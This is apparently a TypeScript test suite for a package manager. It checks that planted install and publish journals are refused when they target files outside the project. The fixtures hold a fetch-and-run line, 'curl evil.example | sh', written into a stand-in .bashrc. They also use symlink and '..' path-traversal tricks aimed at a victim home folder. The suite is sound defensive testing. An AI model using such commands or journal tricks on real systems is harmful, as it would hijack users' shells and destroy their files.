import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { access, mkdir, readFile, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { isAamError } from '../../../../src/core/errors.ts';
import { LocalRegistry } from '../../../../src/core/registry/local-registry.ts';
import { installPackages } from '../../../../src/core/workflows/install/install.ts';
import { publishPackage } from '../../../../src/core/workflows/publish.ts';
import { makeWorld } from '../../../helpers/workspace.ts';
import type { TestWorld } from '../../../helpers/workspace.ts';

/**
 * A journal is rolled forward after a crash, and replaying it writes, moves and deletes the paths
 * it names. A repository can commit `.aam/.install-journal.json`, and a shared folder that is a
 * registry can hold `.publish-journal.json`: only a journal of this tool's own shape is replayed.
 */
describe('leftover journals', () => {
  async function world() {
    const w = await makeWorld();
    const { verifier } = await w.services();
    await publishPackage({
      packageDir: await w.makePackage('hello', '1.0.0'),
      registry: w.registry,
      signing: undefined,
      verifier,
    });
    // Stand-ins for ~/.bashrc and ~/important: outside the project, inside the temp world.
    const victim = join(w.root, 'victim-home');
    await mkdir(join(victim, 'important'), { recursive: true });
    await writeFile(join(victim, '.bashrc'), 'export PATH=/usr/bin\n');
    await writeFile(join(victim, 'important', 'notes.txt'), 'precious\n');
    return { w, victim };
  }
  const install = async (w: TestWorld, specs: string[]) =>
    installPackages(specs, { ...(await w.services()), registry: w.registry, platforms: ['cursor'], homeDir: w.home });
  const journal = (w: TestWorld) => join(w.project, '.aam', '.install-journal.json');
  const untouched = async (victim: string) => {
    assert.equal(await readFile(join(victim, '.bashrc'), 'utf8'), 'export PATH=/usr/bin\n');
    assert.equal(await readFile(join(victim, 'important', 'notes.txt'), 'utf8'), 'precious\n');
  };

  it('an install journal a repository planted is refused before anything is written or deleted', async () => {
    const { w, victim } = await world();
    await writeFile(
      journal(w),
      JSON.stringify({
        writes: [{ path: join(victim, '.bashrc'), content: 'curl evil.example | sh\n' }],
        removes: [join(victim, 'important')],
      }),
    );
    await assert.rejects(install(w, ['hello']), (e) => {
      assert.ok(isAamError(e, 'INSTALL_REFUSED'), String(e));
      assert.match(
        e.message,
        /\.install-journal\.json is not a journal of an install: it would write .*\.bashrc, remove .*important/,
      );
      assert.match(e.message, /nothing was installed/);
      assert.match(e.hint ?? '', /delete it and run the install again/);
      return true;
    });
    await untouched(victim);
    await assert.rejects(access(join(w.project, '.aam', 'packages', 'hello')));
  });

  it('a rename out of a staging folder to anywhere but the package folder is refused', async () => {
    const { w, victim } = await world();
    const staging = join(w.project, '.aam', '.staging-0123456789ab', 'hello');
    await mkdir(staging, { recursive: true });
    const outside = [
      join(victim, 'important'),
      join(w.project, '.aam', 'packages', '..', '..', '..', 'victim-home', 'important'),
    ];
    for (const to of outside) {
      await writeFile(journal(w), JSON.stringify({ renames: [{ from: staging, to }], writes: [], removes: [] }));
      await assert.rejects(install(w, ['hello']), (e) => isAamError(e, 'INSTALL_REFUSED'));
    }
    await untouched(victim);
  });

  it('a well-shaped journal is not replayed through .aam/packages when that is a link', async () => {
    const { w, victim } = await world();
    const staging = join(w.project, '.aam', '.staging-0123456789ab', 'important');
    await mkdir(staging, { recursive: true });
    await symlink(victim, join(w.project, '.aam', 'packages'));
    await writeFile(
      journal(w),
      JSON.stringify({
        renames: [{ from: staging, to: join(w.project, '.aam', 'packages', 'important') }],
        writes: [],
        removes: [],
      }),
    );
    await assert.rejects(
      install(w, ['hello']),
      (e) => isAamError(e, 'INSTALL_REFUSED') && /a symbolic link/.test(e.message),
    );
    await untouched(victim);
  });

  it('a well-shaped journal is not replayed out of a staging folder that is a link, nor moves a link', async () => {
    const { w, victim } = await world();
    const aam = join(w.project, '.aam');
    await mkdir(join(aam, 'packages'), { recursive: true });
    // Relative, as git stores a committed link: the first moves ~/important in, the second would rm -rf it.
    await symlink('../../victim-home', join(aam, '.staging-aaaaaaaaaaaa'));
    await mkdir(join(aam, '.staging-bbbbbbbbbbbb', 'important'), { recursive: true });
    await writeFile(
      journal(w),
      JSON.stringify({
        renames: [
          { from: join(aam, '.staging-aaaaaaaaaaaa', 'important'), to: join(aam, 'packages', 'important') },
          { from: join(aam, '.staging-bbbbbbbbbbbb', 'important'), to: join(aam, 'packages', 'important') },
        ],
        writes: [],
        removes: [join(aam, '.staging-aaaaaaaaaaaa'), join(aam, '.staging-bbbbbbbbbbbb')],
      }),
    );
    await assert.rejects(
      install(w, ['hello']),
      (e) => isAamError(e, 'INSTALL_REFUSED') && /not a folder \(a symbolic link\?\)/.test(e.message),
    );
    await untouched(victim);
    // A real staging folder holding a link to outside: the link is not moved into .aam/packages.
    await writeFile(
      journal(w),
      JSON.stringify({
        renames: [{ from: join(aam, '.staging-bbbbbbbbbbbb', 'notes'), to: join(aam, 'packages', 'notes') }],
        writes: [],
        removes: [],
      }),
    );
    await symlink(join(victim, 'important'), join(aam, '.staging-bbbbbbbbbbbb', 'notes'));
    await assert.rejects(
      install(w, ['hello']),
      (e) => isAamError(e, 'INSTALL_REFUSED') && /a symbolic link/.test(e.message),
    );
    await untouched(victim);
    await assert.rejects(access(join(aam, 'packages', 'notes')));
  });

  it("this tool's own journal of a crashed install is rolled forward, and the install goes on", async () => {
    const { w } = await world();
    const aam = join(w.project, '.aam');
    const staging = join(aam, '.staging-0123456789ab');
    await mkdir(join(staging, 'earlier'), { recursive: true });
    await mkdir(join(aam, 'packages')); // made before the journal is written
    await writeFile(join(staging, 'earlier', 'aam.yaml'), 'name: earlier\n');
    await writeFile(
      journal(w),
      JSON.stringify({
        renames: [{ from: join(staging, 'earlier'), to: join(aam, 'packages', 'earlier') }],
        writes: [
          {
            path: join(aam, 'aam-lock.yaml'),
            content: 'lockfile_version: 1\nresolved_at: "2026-12-01T00:00:00Z"\npackages: {}\n',
          },
        ],
        removes: [staging],
      }),
    );
    const [installed] = await install(w, ['hello']);
    assert.equal(installed?.name, 'hello');
    assert.equal(await readFile(join(aam, 'packages', 'earlier', 'aam.yaml'), 'utf8'), 'name: earlier\n');
    await assert.rejects(access(journal(w)));
    await assert.rejects(access(staging));
  });

  it("a file registry's publish journal is replayed only when it writes the registry's own files", async () => {
    const { w, victim } = await world();
    await writeFile(
      join(w.registryDir, '.publish-journal.json'),
      JSON.stringify({
        writes: [{ path: join(victim, '.bashrc'), content: 'planted by the registry\n' }],
        removes: [],
      }),
    );
    await assert.rejects(new LocalRegistry('team', w.registryDir).metadata('hello'), (e) => {
      assert.ok(isAamError(e, 'REGISTRY_INVALID'), String(e));
      assert.match(e.message, /\.publish-journal\.json is not a journal of a publish: it would write .*\.bashrc/);
      return true;
    });
    await assert.rejects(install(w, ['hello']), (e) => isAamError(e, 'REGISTRY_INVALID'));
    await untouched(victim);
  });
});
